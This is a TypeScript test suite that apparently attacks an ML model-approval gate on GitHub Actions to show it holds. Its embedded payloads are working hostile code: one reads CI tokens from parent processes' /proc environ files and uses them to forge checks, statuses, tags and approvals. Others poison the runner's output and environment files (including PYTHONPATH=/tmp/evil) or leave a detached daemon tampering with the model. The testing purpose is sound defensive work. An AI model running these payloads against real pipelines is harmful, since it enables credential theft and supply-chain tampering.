/** Training code and workflows of a pull request that go for the runner, the tokens and the next step. */
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { git } from '../../packages/cli/src/demo/person.ts';
import { cloneOf } from '../../packages/cli/src/demo/steps/enrol.ts';
import { attack } from './support/attack.ts';
import { ready } from './support/green.ts';
import { gained, waitsFor } from './support/observed.ts';
import { enrolledScene, FAIR_TRAINING, logOf, type Pull, type Scene } from './support/scene.ts';

/**
 * Takes the tokens from the environment of the processes above it, as far as they belong to its job, and does with each
 * what it can: a check of the required name, a status, a ledger entry, a tag, a review.
 */
const THIEF = `${FAIR_TRAINING}
import { readFileSync } from 'node:fs';
const above = [];
for (let id = process.ppid; id > 1; ) {
  const variables = readFileSync('/proc/' + id + '/environ', 'latin1').split('\\0');
  if (!variables.some((text) => text.startsWith('GITHUB_RUN_ID='))) break;
  above.push(...variables);
  const stat = readFileSync('/proc/' + id + '/stat', 'latin1');
  id = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
}
const value = (name) => above.find((text) => text.startsWith(name + '='))?.slice(name.length + 1);
console.log('READ ' + above.length + ' KEYS ' + above.filter((text) => text.includes('PRIVATE KEY')).length);
const tokens = [...new Set(above.flatMap((text) => text.match(/gh[ps]_[A-Za-z0-9_]+|eyJ[A-Za-z0-9_.-]+/g) ?? []))];
const api = value('GITHUB_API_URL') + '/repos/' + value('GITHUB_REPOSITORY');
const sha = 'MAIN';
for (const token of tokens) {
  const send = async (method, path, body) => {
    const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' };
    const { status } = await fetch(api + path, { method, headers, body: JSON.stringify(body) });
    console.log('STOLEN ' + path.split('/')[1] + ' ' + status);
  };
  await send('POST', '/check-runs', { name: 'gatehouse/governance', head_sha: sha, status: 'completed', conclusion: 'success' });
  await send('POST', '/statuses/' + sha, { context: 'gatehouse/governance', state: 'success' });
  await send('PUT', '/contents/ledger/x.json', { message: 'x', content: 'e30=', branch: 'gatehouse-evidence' });
  await send('POST', '/git/refs', { ref: 'refs/tags/mortgage-approval@v1.0.0', sha });
  await send('POST', '/pulls/1/reviews', { event: 'APPROVE' });
}
`;

/** Writes outputs and variables for the steps after it, into the files of the runner that it finds. */
const WRITER = `${FAIR_TRAINING}
import { appendFileSync, readdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
let job = process.cwd();
while (!readdirSync(job).some((name) => name.startsWith('_')) && dirname(job) !== job) job = dirname(job);
const files = readdirSync(job, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  .map((entry) => join(entry.parentPath, entry.name)).filter((file) => /(output|env|path|state)[^/]*$/i.test(file) && !file.includes('_actions'));
const lines = 'model-digest=sha256:' + '0'.repeat(64) + '\\noutcome=pass\\nPYTHONPATH=/tmp/evil\\n';
for (const file of files) { try { appendFileSync(file, lines); } catch {} }
console.log('WROTE ' + files.length);
`;

/** Leaves a process behind that goes on when training has ended, and changes the model whenever it finds it. */
const DAEMON = `${FAIR_TRAINING}
import { spawn } from 'node:child_process';
const late = \`
const fs = require('node:fs');
const end = Date.now() + 5000;
const again = () => {
  try { fs.appendFileSync('model/config.json', ' '); fs.appendFileSync('../../late.txt', 'x'); } catch {}
  if (Date.now() < end) setTimeout(again, 20);
};
again();
\`;
const child = spawn(process.execPath, ['-e', late], { detached: true, stdio: 'ignore' });
child.unref();
console.log('DAEMON ' + child.pid);
`;

let scene: Scene;
let plain: Pull;
let thief: Pull;
let writer: Pull;
let daemon: Pull;
let workflow: Pull;

const trainingOf = ({ head }: Pull) => scene.runs('train', head)[0];
const digestOf = (pull: Pull) => scene.decisions(pull)['fairness']?.subject?.modelDigest;

beforeAll(async () => {
  scene = await enrolledScene({ files: { 'train.mjs': FAIR_TRAINING } });
  plain = await scene.openPull({ files: { 'note.mjs': '// A change.\n' } });
  const main = await git(scene.world.people['ml-engineer'], cloneOf(scene.world), 'rev-parse', 'origin/main');
  thief = await scene.openPull({ files: { 'train.mjs': THIEF.replace('MAIN', main) } });
  writer = await scene.openPull({ files: { 'train.mjs': WRITER } });
  daemon = await scene.openPull({ files: { 'train.mjs': DAEMON } });
  const decide = '.github/workflows/decide.yml';
  workflow = await scene.openPull({ files: { [decide]: (text) => text.replaceAll('if: always()', 'if: false') } });
  await scene.idle();
});
afterAll(() => scene?.close());

describe('training code', () => {
  attack(
    {
      id: 'training-code-reads-proc',
      threats: ['T10', 'T9'],
      may: 'bring training code',
      does: 'takes the token of its job from /proc, and tries to post the check, a status, evidence, a tag and a review',
      refusedBy: 'nobody',
      because: 'the token of the job may only read; no key and no other token is on the machine',
    },
    {
      green: () => ready(scene, plain),
      attempt: () => {
        const log = logOf(trainingOf(thief));
        expect(Number(/READ (\d+)/.exec(log)?.[1]), log).toBeGreaterThan(0);
        const tries = [...log.matchAll(/STOLEN (\S+) (\d+)/g)];
        expect(tries.length).toBeGreaterThanOrEqual(5);
        return gained([
          ...tries.filter(([, , status]) => !['401', '403', '404'].includes(status ?? '')).map(([what]) => what),
          ...(log.includes(' KEYS 0') ? [] : ['a private key']),
        ]);
      },
    },
  );

  attack(
    {
      id: 'training-code-writes-outputs-and-environment',
      threats: ['T10', 'T14'],
      may: 'bring training code',
      does: 'appends outputs, variables and paths to the files that the runner reads after the step',
      refusedBy: 'nobody',
      because: 'decide reads no output of the training run: the model is named by the bytes that it left',
    },
    {
      green: () => ready(scene, plain),
      attempt: async () => {
        expect(Number(/WROTE (\d+)/.exec(logOf(trainingOf(writer)))?.[1])).toBeGreaterThan(0);
        await ready(scene, writer);
        return gained(digestOf(writer) === digestOf(plain) ? [] : ['a decision about another model']);
      },
    },
  );

  attack(
    {
      id: 'training-code-leaves-a-daemon',
      threats: ['T10', 'T14'],
      may: 'bring training code',
      does: 'leaves a process behind that changes the model after training has ended',
      refusedBy: 'nobody',
      because: 'the candidate was collected and uploaded by digest, and every later job runs on a machine of its own',
    },
    {
      green: () => ready(scene, plain),
      attempt: async () => {
        expect(logOf(trainingOf(daemon))).toMatch(/DAEMON \d+/);
        await ready(scene, daemon);
        const reported = logOf(trainingOf(daemon)).includes(String(digestOf(daemon)));
        return gained(reported ? [] : ['a decision about other bytes than those collected']);
      },
    },
  );
});

describe('a workflow', () => {
  attack(
    {
      id: 'workflow-edited-without-the-policy-owner',
      threats: ['T18'],
      may: 'get the approvals that a model needs',
      does: 'edits decide.yml so that nothing is decided any more',
      refusedBy: 'check',
      reasonCodes: ['ready-for-approval'],
    },
    { green: () => ready(scene, plain), attempt: () => waitsFor(scene, workflow, 'policy-owner') },
  );
});
